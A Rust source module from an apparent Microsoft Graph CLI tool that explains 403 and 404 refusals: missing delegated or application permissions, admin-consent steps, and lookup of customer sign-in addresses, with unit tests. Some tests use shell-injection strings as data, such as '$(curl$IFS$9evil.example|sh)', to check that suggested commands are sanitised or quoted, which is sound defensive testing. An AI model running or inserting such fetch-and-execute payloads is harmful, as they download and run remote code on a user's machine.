//! What helps whom Graph refuses: the permission that is missing and who grants it, or the name that an address is not.

use openidconnect::http::Method;

use crate::access::{login_command, with_scope_flags};
use crate::auth::ScopeSet;
use crate::graph::permissions::needed;
use crate::graph::{OWN_PROPERTIES, Request, ServiceError};
use crate::hint::{Hint, hint};

/// Who was refused.
pub(super) struct Refused<'a> {
    /// The application signed in as itself.
    pub is_application: bool,
    /// What the call asked for.
    pub asked: ScopeSet,
    /// What the token was granted for.
    pub scopes: &'a [String],
    /// Where the account is, if that is known: `https://contoso.ciamlogin.com/contoso.onmicrosoft.com`.
    pub authority: Option<String>,
}

impl Refused<'_> {
    /// What to do about a `request` that was answered with `status`; nothing where no more is known than everybody is told.
    pub(super) fn hints(&self, request: &Request, status: u16) -> Vec<Hint> {
        let path = request.url.path();
        let path = ["/v1.0", "/beta"].iter().find_map(|version| path.strip_prefix(version)).unwrap_or(path);
        match status {
            403 => self.denied(&request.method, path),
            404 => user_name(path).map(|name| self.no_such_name(&name)).unwrap_or_default(),
            _ => Vec::new(),
        }
    }

    fn denied(&self, method: &Method, path: &str) -> Vec<Hint> {
        let Some(needed) = needed(method.as_str(), path) else { return Vec::new() };
        let (kind, permissions) = if self.is_application { ("Application", needed.application) } else { ("Delegated", needed.delegated) };
        let Some(least) = permissions.first() else {
            let (whom, login): (_, Hint) =
                if self.is_application { ("persons", "cids login".into()) } else { ("applications", "cids login --app-only".into()) };
            return vec![hint!("{} {} is for {} alone: `{}`", method, path, whom, login)];
        };
        let mut hints = if permissions.iter().any(|permission| self.has(permission)) {
            vec![hint!("The token has {}, so that it is the account that may not do this", least)]
        } else {
            let then = match ScopeSet::parse(least) {
                Ok(scopes) if !self.is_application => {
                    let login = hint!("Then run `{}`", login_command(&scopes));
                    // Without the flag the same call would take the same token again.
                    if self.asked.contains(least) { login } else { hint!("{}, and repeat the call with --scope {}", login, least) }
                }
                _ => "Then run `cids login --app-only`".into(),
            };
            vec![
                hint!("{} {} needs the {} permission {} at least", method, path, kind.to_lowercase(), Hint::joined(&permissions, " or ")),
                hint!(
                    "In an external tenant an administrator must consent to it: App registration > API permissions > Add a permission > \
                     Microsoft Graph > {} permissions > {}, then Grant admin consent",
                    kind,
                    least
                ),
                then,
            ]
        };
        let own = path.trim_matches('/').eq_ignore_ascii_case("me");
        if own && *method == Method::PATCH && !self.is_application {
            hints.push(hint!("Customers may change of themselves only {}", Hint::joined(OWN_PROPERTIES, ", ")));
        } else if !own && !self.is_application {
            hints.push("Customers may read and change only themselves, under /me, whatever was consented to".into());
        }
        hints
    }

    fn has(&self, permission: &str) -> bool {
        ScopeSet::parse(&self.scopes.join(" ")).is_ok_and(|granted| granted.contains(permission))
    }

    fn no_such_name(&self, name: &str) -> Vec<Hint> {
        let issuer = self.authority.as_deref().and_then(tenant_domain).unwrap_or_else(|| "TENANT.onmicrosoft.com".to_owned());
        vec![
            "A customer's user principal name is {object-id}@TENANT.onmicrosoft.com, and the address they sign in with lies in `identities`".into(),
            hint!(
                "Look there: cids graph get users --filter {}",
                format!("identities/any(c:c/issuerAssignedId eq '{name}' and c/issuer eq '{issuer}')")
            ),
        ]
    }
}

/// What to do about the `refusal` of the application's own API, which was called with a token for `asked`.
pub(super) fn of_own_api(refusal: &ServiceError, asked: &ScopeSet) -> Vec<Hint> {
    let inspect = with_scope_flags("cids token inspect", asked);
    let wanted = refusal.challenge.as_ref().and_then(|challenge| challenge.scope.as_deref());
    match (refusal.status, wanted.and_then(|wanted| ScopeSet::parse(&full_names(wanted, asked)).ok())) {
        (401 | 403, Some(wanted)) => vec![
            hint!("The API asks for {}: run `{}`, and give --scope with it", Hint::joined(wanted.iter(), " "), login_command(&wanted)),
            hint!("`{}` shows what the token has", inspect),
        ],
        (401, None) => vec![
            hint!("Look whether the token is the API's (aud), still good, and has what it asks for (scp, roles): `{}`", inspect),
            hint!("If the token should be valid, sign in again: `{}`", login_command(asked)),
        ],
        (403, None) => {
            vec![hint!("The API asks for a scope (scp) or a role (roles) that the token lacks: `{}` shows what it has", inspect)]
        }
        _ => Vec::new(),
    }
}

/// APIs name their scopes without the resource, which a sign-in needs.
fn full_names(wanted: &str, asked: &ScopeSet) -> String {
    let resource = asked.iter().find_map(|scope| scope.rsplit_once('/')).map(|(resource, _)| resource);
    let full = |scope: &str| match resource {
        Some(resource) if !scope.contains('/') => format!("{resource}/{scope}"),
        _ => scope.to_owned(),
    };
    wanted.split_whitespace().map(full).collect::<Vec<_>>().join(" ")
}

/// The address in `/users/{address}`, as it can stand in a line for a shell.
fn user_name(path: &str) -> Option<String> {
    let mut segments = path.trim_matches('/').split('/');
    if !segments.next()?.eq_ignore_ascii_case("users") {
        return None;
    }
    let name = segments.next()?.replace("%40", "@");
    let harmless = |c: char| c.is_ascii_alphanumeric() || "@._+-".contains(c);
    match name.contains('@') {
        true if name.chars().all(harmless) => Some(name),
        true => Some("EMAIL".to_owned()),
        false => None,
    }
}

/// The tenant's first domain, which is the issuer of its customers' identities, as it can stand in a line for a shell.
fn tenant_domain(authority: &str) -> Option<String> {
    let rest = authority.split_once("://")?.1;
    let (host, path) = rest.split_once('/').unwrap_or((rest, ""));
    let is_label = |label: &&str| label.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-');
    let named = path.split('/').find_map(|segment| segment.strip_suffix(".onmicrosoft.com"));
    named.or_else(|| host.strip_suffix(".ciamlogin.com")).filter(is_label).map(|label| format!("{label}.onmicrosoft.com"))
}

#[cfg(test)]
mod tests {
    use url::Url;

    use super::*;
    use crate::graph::Challenge;

    fn person() -> Refused<'static> {
        Refused { is_application: false, asked: ScopeSet::parse("User.Read").unwrap(), scopes: &[], authority: None }
    }

    fn told(hints: &[Hint]) -> String {
        hints.iter().map(Hint::as_str).collect::<Vec<_>>().join("\n")
    }

    fn hints(refused: &Refused<'_>, method: Method, path: &str, status: u16) -> String {
        let request = Request::new(method, Url::parse(&format!("https://graph.microsoft.com/v1.0/{path}")).unwrap());
        told(&refused.hints(&request, status))
    }

    #[test]
    fn the_missing_permission_and_the_sign_in_are_named() {
        assert_eq!(
            hints(&person(), Method::GET, "users?$top=1", 403),
            "GET /users needs the delegated permission User.ReadBasic.All at least\n\
             In an external tenant an administrator must consent to it: App registration > API permissions > Add a permission > \
             Microsoft Graph > Delegated permissions > User.ReadBasic.All, then Grant admin consent\n\
             Then run `cids login --scope User.ReadBasic.All`, and repeat the call with --scope User.ReadBasic.All\n\
             Customers may read and change only themselves, under /me, whatever was consented to"
        );
        let patch = hints(&person(), Method::PATCH, "me", 403);
        assert!(patch.contains("--scope User.ReadWrite`, and repeat the call with --scope User.ReadWrite\n"), "{patch}");
        let asked = Refused { asked: ScopeSet::parse("User.ReadWrite").unwrap(), ..person() };
        assert!(hints(&asked, Method::PATCH, "me", 403).contains("Then run `cids login --scope User.ReadWrite`\n"));
        assert!(patch.ends_with("surname, preferredLanguage"), "{patch}");
    }

    #[test]
    fn an_application_needs_its_own_permissions() {
        let application = Refused { is_application: true, ..person() };
        let told = hints(&application, Method::GET, "users/8b1f", 403);
        assert!(told.contains("Application permissions > User.ReadBasic.All") && told.contains("`cids login --app-only`"), "{told}");
        assert!(!told.contains("Customers"), "{told}");
        assert!(hints(&application, Method::GET, "me", 403).contains("for persons alone"));
    }

    #[test]
    fn a_permission_that_is_there_is_not_asked_for_again() {
        let granted = ["https://graph.microsoft.com/user.readbasic.all".to_owned()];
        let told = hints(&Refused { scopes: &granted, ..person() }, Method::GET, "users", 403);
        assert!(told.starts_with("The token has User.ReadBasic.All") && !told.contains("cids login"), "{told}");
    }

    #[test]
    fn an_address_is_no_user_principal_name() {
        for (authority, issuer) in [
            (Some("https://contoso.ciamlogin.com/8b1f0f2e-51a5-4f0b-9a43-1f6c2f0a7d11"), "contoso.onmicrosoft.com"),
            (Some("http://localhost:1/litware.onmicrosoft.com"), "litware.onmicrosoft.com"),
            (Some("https://login.litware.example/x"), "TENANT.onmicrosoft.com"),
            (Some("https://contoso.ciamlogin.com/$(curl$IFS$9evil.example|sh).onmicrosoft.com"), "TENANT.onmicrosoft.com"),
            (None, "TENANT.onmicrosoft.com"),
        ] {
            let told = hints(
                &Refused { authority: authority.map(str::to_owned), ..person() },
                Method::GET,
                "users/casey%40litware.example/memberOf",
                404,
            );
            let line = format!(
                "cids graph get users --filter \"identities/any(c:c/issuerAssignedId eq 'casey@litware.example' and c/issuer eq '{issuer}')\""
            );
            assert!(told.ends_with(&line), "{told}");
        }
        assert!(hints(&person(), Method::GET, "users/$(id)`@x.example", 404).contains("eq 'EMAIL'"));
    }

    #[test]
    fn what_an_own_api_asks_for_cannot_become_a_command() {
        let challenge = Challenge { scope: Some("$(curl${IFS}evil|sh)".to_owned()), ..Challenge::default() };
        let refusal = ServiceError { status: 401, challenge: Some(challenge), ..ServiceError::default() };
        let told = told(&of_own_api(&refusal, &ScopeSet::parse("api://x/Read").unwrap()));
        assert!(told.contains("cids login --scope 'api://x/$(curl${IFS}evil|sh)'"), "{told}");
    }

    #[test]
    fn scopes_of_an_own_api_get_its_name() {
        let asked = ScopeSet::parse("openid api://x/Tasks.Read").unwrap();
        assert_eq!(full_names("Tasks.Write api://y/Z", &asked), "api://x/Tasks.Write api://y/Z");
        assert_eq!(full_names("write", &ScopeSet::parse("read").unwrap()), "write");
    }

    #[test]
    fn nothing_is_made_up() {
        for (path, status) in [("users/8b1f", 404), ("no/such/path", 403), ("me", 404), ("users", 500)] {
            assert_eq!(hints(&person(), Method::GET, path, status), "", "{path} {status}");
        }
    }
}
